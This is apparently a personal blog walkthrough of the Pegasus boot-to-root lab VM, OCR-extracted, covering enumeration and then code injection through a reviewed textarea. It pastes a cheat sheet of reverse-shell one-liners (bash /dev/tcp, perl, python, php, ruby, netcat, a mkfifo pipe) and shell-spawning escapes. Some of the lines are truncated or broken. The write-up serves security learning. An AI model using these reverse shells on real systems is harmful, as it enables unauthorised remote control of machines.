Analyzing Pegasus VM

Hello everyone,

This is my first article. I hope it goes well. Here I will try to solve Pegasus VM found @,109/

Following are the first 3 steps I used for enumeration:

1) Run Nmap (Port scanner)
2) Run Nikto (Application scanner)
3) Run dirb (directory buster)


1) Initially I ran nmap with -sn (Ping sweep) to determine all the alive host in the segment.

Then scanned the IP with -A and -sV to enumerate further.

Got the open ports, services running on those ports.
 Lets check the website hosted.2) Run nikto web application scanner for enumeration:

Nikto didn't help much this time. Except for platform information PHP/5.3.10-1ubuntu3.15

3) Run dirb as shown in the following screenshot for enumeration:

dirb didn't really help. After some manual analysis I came to know that the application sends back image for any random request.

And a file not found response when the extension .php is added to it.

After using dirb, directory buster and wfuzz with different wordlist I found the following.

It clearly states, whatever we enter in the textarea will be reviewed by Mike.
First thing that I can think of was to insert a php bind shell as enumerated by Nikto.

Submitted the code here.

Got the following error.

Then I tried the following shell codes form


Some versions of bash can send you a reverse shell (this was tested on Ubuntu 10.10):
bash -i >& /dev/tcp/ 0>&1Here’s a shorter, feature-free version of the perl-reverse-shell:
perl -e 'use Socket;$i="";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'


This was tested under Linux / Python 2.7:
python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("",1234));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);["/bin/sh","-i"]);'


This code assumes that the TCP connection uses file descriptor 3.  This worked on my test system.  If it doesn’t work, try 4, 5, 6…
php -r '$sock=fsockopen("",1234);exec("/bin/sh -i <&3 >&3 2>&3");'
If you want a .php file to upload, see the more featureful and robust php-reverse-shell.


ruby -rsocket -e'"",1234).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'


Netcat is rarely present on production systems and even if it is there are several version of netcat, some of which don’t support the -e option.
nc -e /bin/sh 1234
If you have the wrong version of netcat installed, Jeff Price points out here that you might still be able to get your reverse shell back like this:
rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 1234 >/tmp/f


r = Runtime.getRuntime()
p = r.exec(["/bin/bash","-c","exec 5<>/dev/tcp/;cat <&5 | while read line; do \$line 2>&5 >&5; done"] as String[])

Still no result then I tried a shell code from

After that I tried nc for connecting to the port and finally I got the shell.

Then I tried to spawn a stable shell. Reference

Shell Spawning
  • python -c 'import pty; pty.spawn("/bin/sh")'
  • echo os.system('/bin/bash')
  • /bin/sh -i
  • perl —e 'exec "/bin/sh";'
  • perl: exec"/bin/sh";
  • ruby: exec "/bin/sh"
  • lua: os.execute('/bin/sh')
  • (From within IRB)
    exec "/bin/sh"
  • (From within vi)
  • (From within vi)
    :setshell=/bin/bash:shell
  • (From within nmap)
And I got an interactive and stableshell form the exploitedmachine .


Popular posts from this blog

Minishare1.4.1 Bufferoverflow


Apache AXIS server pentest